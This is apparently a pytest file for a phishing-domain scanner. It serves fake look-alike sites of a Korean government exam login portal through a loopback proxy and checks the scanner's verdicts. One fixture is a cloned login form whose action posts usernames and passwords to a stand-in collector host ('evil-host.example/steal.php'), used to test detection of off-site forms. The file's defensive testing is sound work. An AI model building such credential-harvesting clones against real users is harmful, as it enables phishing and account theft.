"""Page evidence through a loopback HTTP proxy made here: it refuses every CONNECT (so each
fetch falls back from https to http) and serves fixture sites by host name — the official
login page, an exact clone, a clone whose form posts elsewhere, an unrelated business on a
look-alike domain, a parked page, a redirect chain to a clone, a clone on a weak domain and
a host that does not answer. The page evidence must change the verdicts as issue 14 says."""

from __future__ import annotations

import csv
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from insa.cli import app

DATA = Path(__file__).parent / "data"

OFFICIAL = """<!doctype html><html lang="ko"><head><title>사이버국가고시센터</title></head><body>
<header><nav><a href="/">홈</a><a href="/exam">시험정보</a><a href="/apply">원서접수</a><a href="/result">합격자발표</a></nav></header>
<main><h1>사이버국가고시센터 로그인</h1>
<p>국가공무원 공개경쟁채용시험 원서접수와 응시표 출력, 합격자 확인은 로그인한 뒤 이용할 수 있습니다. 인사혁신처가 운영합니다.</p>
<form action="/login" method="post"><label>아이디 <input name="userId"></label>
<label>비밀번호 <input type="password" name="userPw"></label><button>로그인</button></form>
<section><h2>공지사항</h2><ul><li>2026년도 국가공무원 7급 공개경쟁채용시험 시행계획 공고</li>
<li>2026년도 국가공무원 9급 공개경쟁채용시험 원서접수 안내</li><li>응시자 유의사항과 시험장 안내</li>
<li>장애인 응시자 편의지원 신청 안내</li><li>자주 묻는 질문과 상담 전화 안내</li></ul></section></main>
<footer>인사혁신처 세종특별자치시 한누리대로 499 사이버국가고시센터 문의 1234-5678</footer></body></html>"""
OFFSITE = OFFICIAL.replace('action="/login"', 'action="http://collect.evil-host.example/steal.php"')
ACADEMY = """<html><head><title>합격 고시학원</title></head><body><h1>합격 고시학원 7급 9급 공무원 대비반</h1>
<p>서울 노량진 학원가에서 20년 동안 공무원 수험생을 가르쳐 온 학원입니다. 국어 영어 한국사 행정법 행정학 강의를
실강과 온라인으로 제공합니다. 수강 신청은 전화로 받습니다. 모의고사와 면접 대비반, 자습실과 상담실을 운영하며
교재와 강의 일정은 공지사항에서 확인하세요. 오시는 길 지하철 1호선 노량진역 3번 출구 도보 5분.</p></body></html>"""
PARKED = "<html><head><title>gosi.net</title></head><body>This domain is for sale. Buy this domain today.</body></html>"
SITES: dict[str, tuple[int, str, str]] = {  # host/path → status, location, body
    "www.gosi.kr/": (200, "", OFFICIAL),
    "gosi-kr.com/": (200, "", OFFICIAL),
    "gosi-exam.net/": (200, "", OFFSITE),
    "gosi.co.kr/": (200, "", ACADEMY),
    "gosi.net/": (200, "", PARKED),
    "g0si.kr/": (302, "http://login-gosi.top/a", ""),
    "login-gosi.top/a": (302, "/b", ""),
    "login-gosi.top/b": (200, "", OFFICIAL),
    "goshi-info.com/": (200, "", OFFICIAL.replace("1234-5678", "010-0000-0000")),
}


@pytest.fixture
def proxy() -> Iterator[str]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(32)
    port = server.getsockname()[1]
    stop = threading.Event()

    def handle(conn: socket.socket) -> None:
        with conn:
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = conn.recv(65536)
                if not chunk:
                    return
                data += chunk
            line = data.split(b"\r\n", 1)[0].decode()
            method, target, _ = line.split(" ", 2)
            if method == "CONNECT":  # no tunnels: https falls back to http
                conn.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
                return
            key = target.split("://", 1)[1]
            status, location, body = SITES.get(key, (502, "", ""))
            raw = body.encode()
            head = f"HTTP/1.1 {status} X\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(raw)}\r\nConnection: close\r\n"
            if location:
                head += f"Location: {location}\r\n"
            conn.sendall(head.encode() + b"\r\n" + raw)

    def loop() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            threading.Thread(target=handle, args=(conn,), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()
    yield f"http://127.0.0.1:{port}"
    stop.set()
    server.close()


def test_page_evidence_changes_the_verdicts(tmp_path: Path, proxy: str) -> None:
    runner = CliRunner()
    prints = tmp_path / "fingerprints.json"
    r = runner.invoke(app, ["cyber", "assets", "fingerprint", str(DATA / "assets.yaml"), "--proxy", proxy,
                            "--fingerprints", str(prints)])  # fmt: skip
    assert prints.exists() and "gosi" in prints.read_text(encoding="utf-8"), r.output
    cands = tmp_path / "c.txt"
    cands.write_text("\n".join(["gosi-kr.com", "gosi-exam.net", "gosi.co.kr", "gosi.net", "g0si.kr", "goshi-info.com",
                                "gosi.org", "gosiwon-seoul.com", "naver.com"]) + "\n", encoding="utf-8")  # fmt: skip
    plain, fetched = tmp_path / "plain.csv", tmp_path / "fetched.csv"
    base = ["cyber", "scan", str(cands), "--assets", str(DATA / "assets.yaml"), "--workers", "1"]
    assert runner.invoke(app, [*base, "-o", str(plain)]).exit_code == 0
    r = runner.invoke(
        app, [*base, "-o", str(fetched), "--fetch", "--proxy", proxy, "--fingerprints", str(prints)]
    )
    assert r.exit_code == 0, r.output

    def rows(p: Path) -> dict[str, dict[str, str]]:
        with p.open(encoding="utf-8") as f:
            return {row["domain"]: row for row in csv.DictReader(f)}

    before, after = rows(plain), rows(fetched)
    assert list(after) == list(before)  # one row per candidate, in order
    assert (
        after["gosi-kr.com"]["verdict"] == "alert"
        and "page-clone:1.00" in after["gosi-kr.com"]["reasons"]
    )
    assert (
        after["gosi-exam.net"]["verdict"] == "alert"
        and "form-offsite" in after["gosi-exam.net"]["reasons"]
    )
    # a look-alike domain serving an exam academy: no alert
    assert before["gosi.co.kr"]["verdict"] == "alert" and after["gosi.co.kr"]["verdict"] == "watch"
    assert "unrelated-page" in after["gosi.co.kr"]["reasons"]
    assert after["gosi.net"]["verdict"] == "watch" and "parked" in after["gosi.net"]["reasons"]
    assert after["g0si.kr"]["verdict"] == "alert" and "redirects:2" in after["g0si.kr"]["reasons"]
    assert "page-clone" in after["g0si.kr"]["reasons"]
    # a weak domain (watch on its name) cloning the login page: alert
    assert (
        before["goshi-info.com"]["verdict"] != "alert"
        and after["goshi-info.com"]["verdict"] == "alert"
    )
    assert after["gosi.org"]["verdict"] == "watch" and "unreachable" in after["gosi.org"]["reasons"]
    assert after["gosiwon-seoul.com"]["verdict"] != "alert"
    assert after["naver.com"] == before["naver.com"]  # matched no asset: not fetched


def test_alerts_become_cases_with_their_evidence_and_picture(
    tmp_path: Path, proxy: str, migrated: object
) -> None:
    from sqlalchemy import select

    from insa.cyber.models import CyberCase, CyberEvidence
    from insa.db.engine import get_engine, session_scope

    runner = CliRunner()
    prints = tmp_path / "fingerprints.json"
    runner.invoke(app, ["cyber", "assets", "fingerprint", str(DATA / "assets.yaml"), "--proxy", proxy,
                        "--fingerprints", str(prints)])  # fmt: skip
    cands = tmp_path / "c.txt"
    cands.write_text("gosi-kr.com\ng0si.kr\ngosi.co.kr\nnaver.com\n", encoding="utf-8")
    args = ["cyber", "scan", str(cands), "--assets", str(DATA / "assets.yaml"), "-o", str(tmp_path / "f.csv"),
            "--workers", "1", "--fetch", "--proxy", proxy, "--fingerprints", str(prints), "--cases"]  # fmt: skip
    r = runner.invoke(app, args)
    assert r.exit_code == 0, r.output
    assert runner.invoke(app, args).exit_code == 0  # again: no second case
    with session_scope(get_engine()) as db:
        domains = sorted(db.scalars(select(CyberCase.domain)))
        ev = {e.url: e for e in db.scalars(select(CyberEvidence))}
    assert domains == ["g0si.kr", "gosi-kr.com"]  # gosi.co.kr's academy page: no alert, no case
    clone = ev["http://gosi-kr.com/"]
    assert (
        clone.similarity == 100
        and clone.sha256
        and clone.ssdeep
        and clone.title == "사이버국가고시센터"
    )
    chain = ev["http://login-gosi.top/b"]
    assert chain.redirects == ["http://login-gosi.top/a", "/b"]
    assert clone.screenshot is not None and clone.screenshot.startswith(
        b"\x89PNG"
    )  # Chromium is installed here
